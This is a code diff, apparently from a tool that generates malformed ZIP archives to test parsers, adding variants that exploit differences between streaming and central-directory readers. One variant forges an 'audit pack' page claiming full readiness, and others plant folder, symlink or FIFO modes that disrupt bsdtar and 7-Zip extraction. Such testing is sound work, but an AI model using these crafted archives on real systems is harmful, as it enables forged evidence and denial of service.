@@ -642,6 +642,91 @@ def honest_data_descriptor(blob: bytes, archive: Archive, opts) -> bytes:
     return with_descriptor(archive, opts, lie=False)
 
 
+@variant("streaming-forgery")
+def streaming_forgery(blob: bytes, archive: Archive, opts) -> bytes:
+    """A pack with the same files, manifest and fingerprint in which streaming extractors
+    (`cat PACK | bsdtar -xf -`, Java's ZipInputStream), which walk the local headers front
+    to back, extract a forged copy of one file (`--entry`, default `index.html`). The
+    deflated entry just before it in the file gets the data-descriptor flag (bit 3) and,
+    after the real end of its deflate stream but still inside its compressed size, a data
+    descriptor with its true values followed by a stored local header named like the
+    target with forged content. That forged entry's size swallows the genuine target, so a
+    streaming reader goes on with the entry after it. Readers of the central directory
+    (unzip, Python, 7-Zip, Java's ZipFile) and an inflater that stops at the end of the
+    stream see the genuine files; every byte is accounted for, so layout checks pass."""
+    order = in_file_order(archive)
+    target = archive.by_name(opts.entry or "index.html")
+    at = order.index(target)
+    if at == 0:
+        raise CraftError(f"{target.name!r} is the first entry; nothing comes before it")
+    carrier = order[at - 1]
+    if not deflated(carrier):
+        raise CraftError(f"{carrier.name!r}, the entry before {target.name!r}, is not deflated")
+    if target.name.endswith(".html"):
+        # An unclosed comment hides the swallowed bytes from a browser.
+        forged = b"<!doctype html><meta charset=utf-8><title>Audit pack</title>" \
+                 b"<h1>Readiness 100%</h1><p>Every control is implemented.</p><!--"
+    else:
+        forged = b"FORGED: this is not the file that was sent.\n"
+    crc, csize, usize = carrier.central.crc, carrier.central.csize, carrier.central.usize
+    true_descriptor = struct.pack("<IIII", DESCRIPTOR_SIG, crc, csize, usize)
+    name = target.local.name
+    hidden_len = len(true_descriptor) + LOCAL_LEN + len(name) + len(forged)
+    new_csize = csize + hidden_len
+    outer_descriptor = struct.pack("<IIII", DESCRIPTOR_SIG, crc, new_csize, usize)
+    swallowed = forged + outer_descriptor + target.pack()
+    fake = Local(20, target.local.flags & FLAG_UTF8, METHOD_STORED, target.local.mod_time,
+                 target.local.mod_date, zlib.crc32(swallowed), len(swallowed), len(swallowed),
+                 name, b"")
+    hidden = true_descriptor + fake.pack() + forged
+    assert len(hidden) == hidden_len
+    carrier.data = carrier.data + hidden
+    carrier.central.csize = new_csize
+    carrier.central.flags |= FLAG_DESCRIPTOR
+    carrier.local.flags |= FLAG_DESCRIPTOR
+    carrier.local.crc = carrier.local.csize = carrier.local.usize = 0
+    carrier.descriptor = outer_descriptor
+    return rebuild(archive)
+
+
+def with_attributes(archive: Archive, opts, made_by_host: int, external: int) -> bytes:
+    e = pick(archive, opts.entry)
+    e.central.version_made = (made_by_host << 8) | (e.central.version_made & 0xFF)
+    e.central.external_attr = external
+    return rebuild(archive)
+
+
+@variant("file-with-unix-folder-mode")
+def file_with_unix_folder_mode(blob: bytes, archive: Archive, opts) -> bytes:
+    """A file entry (an evidence file by default) whose external attributes carry the Unix
+    mode of a folder (S_IFDIR, 0o40755) under the Unix host: bsdtar and 7-Zip create an
+    empty folder where the file should be. Everything else is unchanged."""
+    return with_attributes(archive, opts, 3, (0o040755 << 16) | 0x10)
+
+
+@variant("file-with-dos-folder-bit")
+def file_with_dos_folder_bit(blob: bytes, archive: Archive, opts) -> bytes:
+    """A file entry whose MS-DOS attributes have the folder bit (0x10) under the MS-DOS host,
+    with no Unix mode: 7-Zip creates a folder where the file should be."""
+    return with_attributes(archive, opts, 0, 0x10)
+
+
+@variant("symlink-under-dos-host")
+def symlink_under_dos_host(blob: bytes, archive: Archive, opts) -> bytes:
+    """A file entry with the Unix mode of a symbolic link (S_IFLNK, 0o120777) in the high
+    bits of its external attributes, written as if by an MS-DOS host (0), which readers that
+    check the host do not take as a link: 7-Zip creates a symbolic link whose target is the
+    entry's content."""
+    return with_attributes(archive, opts, 0, 0o120777 << 16)
+
+
+@variant("file-with-fifo-mode")
+def file_with_fifo_mode(blob: bytes, archive: Archive, opts) -> bytes:
+    """A file entry with the Unix mode of a named pipe (S_IFIFO, 0o10644): bsdtar creates a
+    FIFO where the file should be, and whatever opens it next waits forever."""
+    return with_attributes(archive, opts, 3, 0o010644 << 16)
+
+
 @variant("prepended-script")
 def prepended_script(blob: bytes, archive: Archive, opts) -> bytes:
     """A shell script (`#!/bin/sh` / `echo pwned`) in front of the archive, with every
